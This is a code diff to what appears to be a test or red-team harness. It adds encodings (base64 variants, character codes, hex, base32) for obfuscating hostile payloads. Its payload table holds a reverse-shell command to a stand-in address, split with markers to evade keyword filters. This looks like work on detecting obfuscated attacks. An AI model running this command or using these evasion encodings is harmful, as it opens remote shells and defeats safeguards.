@@ -19,12 +19,24 @@ const PAYLOADS = {
   "a reverse shell": "ba{{-}}sh -c 'ba{{-}}sh -i >& /d{{-}}ev/t{{-}}cp/203.0.113.77/4444 0>&1' && echo {{word:62}} is done",
 } as const;
 
+/** As the build would fill it, where a template's own encodings do not do. */
+const whole = (text: string): string => text.replaceAll("{{-}}", "").replaceAll(/\{\{word:\d+\}\}/gu, "it");
+
 const ENCODINGS = {
   base64: (text) => ({ encode: text, as: "base64" }),
   "base64 in lines of 60": (text) => ({ encode: text, as: "base64", wrap: 60 }),
   "base64 in base64": (text) => ({ encode: text, as: ["base64", "base64"] }),
   "base64 in hex": (text) => ({ encode: text, as: ["base64", "hex"] }),
+  "base64 in short lines that end in CR and LF": (text) =>
+    (
+      Buffer.from(whole(text))
+        .toString("base64")
+        .match(/.{1,20}/gu) ?? []
+    ).join("\r\n"),
+  "character codes that are called so": (text) => `The character codes: [${Array.from(Buffer.from(whole(text))).join(", ")}]`,
   hex: (text) => ({ encode: text, as: "hex" }),
+  "hex in capitals": (text) => Buffer.from(whole(text)).toString("hex").toUpperCase(),
+  base32: (text) => ({ encode: text, as: "base32" }),
   percent: (text) => ({ encode: text, as: "percent" }),
 } as const satisfies Record<string, (text: string) => Body>;
 const ENCODING_NAMES = Object.keys(ENCODINGS) as readonly (keyof typeof ENCODINGS)[];
